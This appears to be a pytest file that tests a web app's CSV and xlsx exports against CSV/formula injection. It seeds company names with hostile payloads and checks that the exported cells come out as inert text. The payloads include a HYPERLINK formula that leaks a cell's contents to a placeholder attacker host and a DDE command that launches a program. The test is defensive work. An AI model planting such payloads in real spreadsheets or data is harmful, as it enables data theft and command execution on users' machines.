"""Exports of hostile names open as text: no formula, no 500 (CSV injection, xlsx control chars).

Companies of the tiny bank are renamed to what an attacker would register, after the
prospects are computed; every CSV and xlsx export is then fetched over HTTP and read
back with ``csv`` and ``openpyxl``.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook  # type: ignore[import-untyped]

from api.app import create_app
from core.settings import Settings
from core.spreadsheet import FORMULA_TRIGGERS
from graph.database import Database
from graph.users import UserStore

from .conftest import cli_env, published, run_cli

HOSTILE = (
    '=HYPERLINK("http://evil.invalid/?x="&A1,"点击")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)",
    "华信\x00有限公司",
    "\t=1+2",
    "\r=3+4",
    "＝1+1",
)
PROSPECTS = (
    "MATCH (p:Prospect {run_id: $prospect_run}) "
    "RETURN p.company_id AS id ORDER BY p.prospect_score DESC, id LIMIT $n"
)
CUSTOMERS = "MATCH (c:Customer) RETURN c.company_id AS id ORDER BY id LIMIT $n"
RENAME = "UNWIND $rows AS row MATCH (c:Company {company_id: row.id}) SET c.name = row.name"


@pytest.fixture(scope="module")
def hostile_bank(database: Database, tmp_path_factory: pytest.TempPathFactory) -> Database:
    out = tmp_path_factory.mktemp("tiny-bank-hostile-names")
    env = cli_env()
    run_cli("generate", "--out", str(out), "--scale", "tiny", "--seed", "5", env=env)
    run_cli("db", "wipe", "--yes", env=env)
    run_cli("load", str(out), env=env)
    run_cli("compute", "--only", "prospects", env=env)
    n = len(HOSTILE)
    targets = [r["id"] for r in database.read(PROSPECTS, {"n": n, **published(database)})]
    targets += [r["id"] for r in database.read(CUSTOMERS, {"n": n})]
    assert len(targets) == 2 * n
    rows = [{"id": t, "name": HOSTILE[i % n]} for i, t in enumerate(targets)]
    database.write(RENAME, {"rows": rows})
    return database


@pytest.fixture(scope="module")
def client(hostile_bank: Database) -> Iterator[TestClient]:
    with TestClient(create_app(Settings())) as test_client:
        yield test_client


def _admin(db: Database) -> dict[str, str]:
    _, key = UserStore(db).add("export admin", "admin", "HO")
    return {"X-API-Key": key}


def _assert_inert(cells: list[str]) -> None:
    dangerous = [c for c in cells if c.startswith(FORMULA_TRIGGERS)]
    assert not dangerous, dangerous
    assert not any("\x00" in c for c in cells)
    # Every hostile name is there, as text (XML turns a CR into a line feed in xlsx).
    texts = {c.replace("\r", "\n") for c in cells}
    for name in HOSTILE:
        cleaned = name.replace("\x00", "").replace("\r", "\n")
        assert cleaned in texts or "'" + cleaned in texts, name


def _csv_cells(text: str) -> list[str]:
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")))
    return [cell for row in rows for cell in row]


def test_prospect_exports_neutralise_formulas(client: TestClient, hostile_bank: Database) -> None:
    admin = _admin(hostile_bank)
    exported = client.get("/api/v1/prospects/export", params={"format": "csv"}, headers=admin)
    assert exported.status_code == 200, exported.text
    _assert_inert(_csv_cells(exported.content.decode("utf-8")))

    book = client.get("/api/v1/prospects/export", params={"format": "xlsx"}, headers=admin)
    assert book.status_code == 200, book.text
    sheet = load_workbook(io.BytesIO(book.content)).active
    assert sheet is not None
    cells = list(sheet.iter_rows())
    assert all(cell.data_type != "f" for row in cells for cell in row)
    _assert_inert([str(cell.value) for row in cells for cell in row if isinstance(cell.value, str)])


def test_customer_export_neutralises_formulas(client: TestClient, hostile_bank: Database) -> None:
    admin = _admin(hostile_bank)
    exported = client.get("/api/v1/customers/export", params={"sort": "id"}, headers=admin)
    assert exported.status_code == 200, exported.text
    _assert_inert(_csv_cells(exported.content.decode("utf-8")))
